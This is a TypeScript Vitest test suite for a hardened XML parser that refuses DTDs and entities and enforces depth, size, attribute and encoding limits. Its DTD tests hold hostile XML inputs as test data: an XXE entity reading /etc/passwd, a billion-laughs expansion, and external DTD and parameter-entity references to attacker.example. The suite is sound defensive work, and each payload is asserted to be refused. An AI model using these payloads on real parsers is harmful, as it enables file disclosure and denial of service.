import { describe, expect, it } from "vitest";
import { CATALOGUE } from "../../src/errors/catalogue.js";
import { DEFAULT_XML_LIMITS, parseXmlSafely } from "../../src/xml/safe-parse.js";

/** The one finding code of a refused parse (and the finding itself for detail checks). */
function refusal(input: Uint8Array | string, limits = {}) {
  const result = parseXmlSafely(input, limits);
  if (result.ok) throw new Error("expected a refusal, the document was accepted");
  expect(result.findings).toHaveLength(1);
  return result.findings[0]!;
}

describe("parseXmlSafely — accepted documents", () => {
  it("parses a namespaced UTF-8 document from bytes and from a string", () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="cda.xsl"?>\n<a xmlns="urn:x"><!-- c --><b attr='1'>åäö &amp; <![CDATA[<raw>]]></b><c/></a>`;
    for (const input of [xml, new TextEncoder().encode(xml)]) {
      const result = parseXmlSafely(input);
      expect(result.ok).toBe(true);
      if (!result.ok) return;
      const b = result.document.documentElement!.getElementsByTagName("b")[0]!;
      expect(b.namespaceURI).toBe("urn:x");
      expect(b.textContent).toBe("åäö & <raw>");
    }
  });

  it("accepts a UTF-8 byte order mark and an element exactly at the depth limit", () => {
    const nested = "<e>".repeat(DEFAULT_XML_LIMITS.maxDepth) + "</e>".repeat(DEFAULT_XML_LIMITS.maxDepth);
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(nested)]);
    expect(parseXmlSafely(bytes).ok).toBe(true);
  });

  it("exports the documented default limits", () => {
    expect(DEFAULT_XML_LIMITS).toEqual({ maxBytes: 20 * 1024 * 1024, maxDepth: 64, maxAttributesPerElement: 64, maxAttributeValueLength: 65536, maxElements: 50_000 });
  });
});

describe("parseXmlSafely — DTDs and entities are refused (DESIGN §9)", () => {
  it.each([
    ["XXE (external general entity)", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>`],
    [
      "billion laughs",
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
    ],
    ["external DTD", `<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/cda.dtd"><ClinicalDocument/>`],
    ["parameter entity", `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><a/>`],
    ["entity declaration outside a DOCTYPE", `<a><!ENTITY x "y"></a>`],
  ])("%s → XML-DOCTYPE-FORBIDDEN", (_name, xml) => {
    const f = refusal(xml);
    expect(f.code).toBe("XML-DOCTYPE-FORBIDDEN");
    expect(f.severity).toBe("error");
  });

  it("an undeclared entity reference is malformed, never resolved", () => {
    expect(refusal("<a>&xxe;</a>").code).toBe("XML-MALFORMED");
  });
});

describe("parseXmlSafely — limits", () => {
  it("100 000 levels of nesting are refused by the pre-scan, without recursion or stack overflow", () => {
    const deep = "<e>".repeat(100_000) + "</e>".repeat(100_000);
    const f = refusal(deep);
    expect(f.code).toBe("XML-TOO-DEEP");
    expect(f.detail).toContain("depth 65; the limit is 64");
    expect(f.location.split("/")).toHaveLength(66); // "" + 65 steps
  });

  it("a self-closing element one level too deep is refused too", () => {
    expect(refusal("<a><b><c/></b></a>", { maxDepth: 2 }).code).toBe("XML-TOO-DEEP");
    expect(parseXmlSafely("<a><b/></a>", { maxDepth: 2 }).ok).toBe(true);
  });

  it("more attributes than the limit → XML-TOO-MANY-ATTRIBUTES; at the limit → accepted", () => {
    const element = (n: number) => `<a ${Array.from({ length: n }, (_, i) => `x${i}="${i}"`).join(" ")}/>`;
    expect(parseXmlSafely(element(64)).ok).toBe(true);
    const f = refusal(element(65));
    expect(f.code).toBe("XML-TOO-MANY-ATTRIBUTES");
    expect(f.location).toBe("/a");
  });

  it("a huge attribute value → XML-ATTRIBUTE-TOO-LONG naming the attribute", () => {
    const f = refusal(`<a><b big="${"x".repeat(DEFAULT_XML_LIMITS.maxAttributeValueLength + 1)}"/></a>`);
    expect(f.code).toBe("XML-ATTRIBUTE-TOO-LONG");
    expect(f.location).toBe("/a/b/@big");
  });

  it("more elements than the limit → XML-TOO-MANY-ELEMENTS before xmldom builds a DOM; at the limit → accepted", () => {
    const flat = (n: number) => `<a>${"<b/>".repeat(n - 1)}</a>`;
    expect(parseXmlSafely(flat(10), { maxElements: 10 }).ok).toBe(true);
    expect(refusal(flat(11), { maxElements: 10 }).code).toBe("XML-TOO-MANY-ELEMENTS");
    expect(refusal(flat(1_000_000)).detail).toContain("more than 50000 elements");
  });

  it("a document over the size limit → XML-TOO-LARGE (configurable), counted in UTF-8 bytes", () => {
    expect(refusal(`<a>${"ä".repeat(600)}</a>`, { maxBytes: 1000 }).code).toBe("XML-TOO-LARGE");
    expect(parseXmlSafely(`<a>${"a".repeat(600)}</a>`, { maxBytes: 1000 }).ok).toBe(true);
    const big = new Uint8Array(DEFAULT_XML_LIMITS.maxBytes + 1).fill(0x20);
    expect(refusal(big).code).toBe("XML-TOO-LARGE");
  });
});

describe("parseXmlSafely — encoding and well-formedness", () => {
  it.each([
    ["a lone continuation byte", [0x3c, 0x61, 0x3e, 0x80, 0x3c, 0x2f, 0x61, 0x3e], 3],
    ["an overlong encoding of '/'", [0x3c, 0x61, 0x3e, 0xc0, 0xaf, 0x3c, 0x2f, 0x61, 0x3e], 3],
    ["a truncated 3-byte sequence", [0x3c, 0x61, 0x3e, 0xe2, 0x82, 0x3c, 0x2f, 0x61, 0x3e], 3],
    ["UTF-16LE with a byte order mark", [0xff, 0xfe, 0x3c, 0x00, 0x61, 0x00, 0x2f, 0x00, 0x3e, 0x00], 0],
  ])("invalid UTF-8 (%s) → XML-ENCODING at the offending byte", (_name, bytes, offset) => {
    const f = refusal(new Uint8Array(bytes));
    expect(f.code).toBe("XML-ENCODING");
    expect(f.detail).toBe(`byte ${offset} is not valid UTF-8`);
  });

  it("a declared encoding other than UTF-8 → XML-ENCODING", () => {
    expect(refusal(`<?xml version="1.0" encoding="ISO-8859-1"?><a/>`).code).toBe("XML-ENCODING");
  });

  it("an unpaired surrogate in string input → XML-ENCODING", () => {
    expect(refusal("<a>\uD800</a>").code).toBe("XML-ENCODING");
  });

  it.each([
    ["truncated document", `<?xml version="1.0"?>\n<a>\n  <b>text`, undefined],
    ["mismatched end tag", `<a>\n<b></a>`, "line 2"],
    ["unquoted attribute", `<a x=1/>`, "line 1, column 6"],
    ["duplicate attribute", `<a x="1" x="2"/>`, "Attribute x redefined"],
    ["two root elements", `<a/><b/>`, undefined],
    ["empty input", ``, "missing root element"],
    ["control character", `<a>\u0001</a>`, "U+0001"],
    ["unterminated comment", `<a><!-- never closed</a>`, "unterminated comment"],
    ["undeclared namespace prefix", `<x:a/>`, undefined],
  ])("%s → XML-MALFORMED with its position", (_name, xml, detail) => {
    const f = refusal(xml);
    expect(f.code).toBe("XML-MALFORMED");
    if (detail) expect(f.detail).toContain(detail);
  });
});

describe("error catalogue entries of src/xml", () => {
  it.each(["XML-DOCTYPE-FORBIDDEN", "XML-ENCODING", "XML-MALFORMED", "XML-TOO-DEEP", "XML-TOO-MANY-ATTRIBUTES", "XML-ATTRIBUTE-TOO-LONG", "XML-TOO-MANY-ELEMENTS", "XML-TOO-LARGE"])(
    "%s has fi/sv/en texts and is a document-level refusal",
    (code) => {
      const entry = CATALOGUE[code]!;
      expect(entry.room).toBe("xml");
      expect(entry.enforcement).toBe("archive");
      for (const text of [entry.fi, entry.sv, entry.en]) expect(text.length).toBeGreaterThan(10);
    },
  );
});
